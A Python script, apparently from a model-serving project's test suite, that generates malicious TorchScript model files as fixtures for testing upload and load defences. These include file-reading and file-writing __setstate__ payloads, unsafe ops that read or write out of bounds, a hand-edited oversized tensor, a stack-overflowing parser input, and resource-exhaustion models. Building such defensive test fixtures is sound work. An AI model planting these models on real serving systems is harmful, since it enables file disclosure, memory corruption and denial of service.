#!/usr/bin/python3
"""Writes an attacker's TorchScript models, one per attack class of issue 27, for
tests/unit/test_torch_model.c and tests/integration/test_model_attacks.py (commit what it writes):

    /usr/bin/python3 tests/data/torchscript/attack/make.py [--path FILE] [--out DIR]

Each NAME.pt takes x FP32 [-1, 4] (metadata.json: the upload metadata they all share) and is a few
KB.  --path is the file the setstate_* and file-reading models target (default /etc/hostname, the
reader's path; setstate_write writes FILE + ".written"): the path is the module attribute `path`
too, so a test can say which file a model would have read.  What each does and what stops it:

refused at upload (server/tsarchive.c through workers/serve/tscode.h, and again by the loader
before torch::jit::load, for models registered by a training job): torch::jit::load itself would
run them
  setstate_read        a scripted __setstate__ (run while the archive is unpickled) reads `path`
                       with torch.from_file into the attribute `leak`, which forward returns
  setstate_write       a scripted __setstate__ writes a tensor to `path`.written with torch.save
  deep_nesting         forward's source is x nested in 100,000 brackets (code/__torch__.py written
                       by hand): TorchScript's parser recurses per bracket and overflows its stack
refused at load by the allow list (workers/serve/torch_model.cpp), before any forward runs; the
message names the op and the method
  interface            an interface-typed submodule (@torch.jit.interface, not inlined) whose
                       forward calls aten::from_file: prim::CallMethod on an interface type
  fork                 torch.jit.fork of a function calling aten::from_file: prim::fork
  resize               functional torch.resize_as_ and Tensor.resize_ (uninitialised heap):
                       aten::resize_as_ / aten::resize_
  segment_reduce_unsafe  torch.segment_reduce(..., unsafe=True) with lengths past the data:
                       aten::segment_reduce (an argument named `unsafe`)
  sparse_unsafe        torch._sparse_coo_tensor_unsafe with an index past its size, then
                       to_dense (an out-of-bounds write): aten::_sparse_coo_tensor_unsafe
  efficientzerotensor  torch._efficientzerotensor (SIGSEGV when used): aten::_efficientzerotensor
refused at load by the tensor check (torch_model.cpp), naming the attribute
  oversized_attribute  the buffer `w` whose pickled size (1,000,000 floats) exceeds its storage
                       (16 floats): data.pkl edited after saving; forward's clone would read past it
contained only by the sandboxed replica process (only allowed ops; nothing at load can tell)
  infinite_loop        forward loops forever (a `while` on a value that never changes)
  huge_allocation      forward allocates torch.zeros(2**36) floats (256 GiB)

The files are saved without their *.debug_pkl entries, as tests/data/torchscript/make.py does."""

import argparse
import io
import json
import os
import re
import zipfile
from typing import Tuple

import torch
from torch import Tensor

HERE = os.path.dirname(os.path.abspath(__file__))
META = {"inputs": [{"name": "x", "datatype": "FP32", "shape": [-1, 4]}]}
PATH = "/etc/hostname"


class SetstateRead(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.leak = torch.zeros(1)

    def forward(self, x):
        return x + self.leak.sum()

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, Tensor, bool]:
        return (self.path, self.leak, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, Tensor, bool]) -> None:
        self.path = state[0]
        self.leak = torch.from_file(state[0], shared=False, size=1, dtype=torch.uint8).float()
        self.training = state[2]


class SetstateWrite(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path + ".written"

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool]) -> None:
        self.path = state[0]
        torch.save(torch.ones(4), state[0])
        self.training = state[1]


@torch.jit.interface
class Reader(torch.nn.Module):
    def forward(self, x: Tensor) -> Tensor:
        pass


class FileReader(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path

    def forward(self, x: Tensor) -> Tensor:
        return x + torch.from_file(self.path, shared=False, size=1, dtype=torch.uint8).float()


class Interface(torch.nn.Module):
    impl: Reader

    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.impl = FileReader(path)

    def forward(self, x):
        return self.impl.forward(x)


def read_file(x: Tensor, path: str) -> Tensor:
    return x + torch.from_file(path, shared=False, size=1, dtype=torch.uint8).float()


class Fork(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path

    def forward(self, x):
        return torch.jit.wait(torch.jit.fork(read_file, x, self.path))


class Resize(torch.nn.Module):
    def forward(self, x):
        y = torch.resize_as_(x.clone(), torch.zeros(64, 64))
        z = x.clone().resize_([128, 128])
        return x + y.sum() + z.sum()


class SegmentReduceUnsafe(torch.nn.Module):
    def forward(self, x):
        lengths = torch.tensor([100000])
        return x + torch.segment_reduce(x.flatten(), "sum", lengths=lengths, unsafe=True).sum()


class SparseUnsafe(torch.nn.Module):
    def forward(self, x):
        i = torch.tensor([[1000000], [0]])
        dense = torch._sparse_coo_tensor_unsafe(i, torch.ones(1), [4, 4]).to_dense()
        return x + dense.sum()


class EfficientZeroTensor(torch.nn.Module):
    def forward(self, x):
        return x + torch._efficientzerotensor([x.shape[0], 4]).sum()


class Oversized(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.register_buffer("w", torch.arange(16, dtype=torch.float32)[:13])  # 16 stored, 13 addressed

    def forward(self, x):
        return x + self.w.clone().sum()


class InfiniteLoop(torch.nn.Module):
    def forward(self, x):
        n = x.shape[0]
        while n > 0:
            x = x + 1.0
            n = n + 1
        return x


class HugeAllocation(torch.nn.Module):
    def forward(self, x):
        return x + torch.zeros([68719476736]).sum()  # 2**36


def archive(module):
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(module), buf)
    return buf.getvalue()


def rewrite(data, edit=None):
    """the archive without *.debug_pkl entries, stored, dated 1980; edit(name, bytes) may change an
    entry's bytes (zipfile writes the CRC and sizes anew)"""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            if info.filename.endswith(".debug_pkl"):
                continue
            b = src.read(info.filename)
            if edit:
                b = edit(info.filename, b)
            info.date_time = (1980, 1, 1, 0, 0, 0)
            # big code files are deflated, as torch.jit.save writes code/
            info.compress_type = zipfile.ZIP_DEFLATED if len(b) > 65536 else zipfile.ZIP_STORED
            dst.writestr(info, b)
    return out.getvalue()


def oversized():
    """Oversized()'s archive with the size of `w` (13, pickled as BININT1 13 in the size tuple)
    made 1,000,000 (BININT): its storage still holds 16 floats"""

    def edit(name, b):
        if not name.endswith("/data.pkl"):
            return b
        # _rebuild_tensor_v2(storage, offset, (13,), (1,), ...): K\x00 (offset 0) ( K\x0d t (the size tuple)
        new, n = re.subn(rb"K\x00\(K\x0dt", b"K\x00(J\x40\x42\x0f\x00t", b)
        assert n == 1, "the size tuple of w was not found in data.pkl"
        return new

    return rewrite(archive(Oversized()), edit)


def deep_nesting(depth=100000):
    """a valid archive (forward returns x) whose code/__torch__.py forward returns x in `depth` brackets"""

    class Identity(torch.nn.Module):
        def forward(self, x):
            return x

    def edit(name, b):
        if not name.endswith("code/__torch__.py"):
            return b
        src = b.decode()
        assert "return x" in src, src
        return src.replace("return x", "return " + "(" * depth + "x" + ")" * depth).encode()

    return rewrite(archive(Identity()), edit)


def make(out, path):
    os.makedirs(out, exist_ok=True)
    models = {
        "setstate_read": lambda: rewrite(archive(SetstateRead(path))),
        "setstate_write": lambda: rewrite(archive(SetstateWrite(path))),
        "deep_nesting": deep_nesting,
        "interface": lambda: rewrite(archive(Interface(path))),
        "fork": lambda: rewrite(archive(Fork(path))),
        "resize": lambda: rewrite(archive(Resize())),
        "segment_reduce_unsafe": lambda: rewrite(archive(SegmentReduceUnsafe())),
        "sparse_unsafe": lambda: rewrite(archive(SparseUnsafe())),
        "efficientzerotensor": lambda: rewrite(archive(EfficientZeroTensor())),
        "oversized_attribute": oversized,
        "infinite_loop": lambda: rewrite(archive(InfiniteLoop())),
        "huge_allocation": lambda: rewrite(archive(HugeAllocation())),
    }
    for name, f in models.items():
        with open(os.path.join(out, name + ".pt"), "wb") as fh:
            fh.write(f())
    with open(os.path.join(out, "metadata.json"), "w") as fh:
        json.dump(META, fh)
        fh.write("\n")


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--path", default=PATH)
    ap.add_argument("--out", default=HERE)
    a = ap.parse_args()
    make(a.out, a.path)
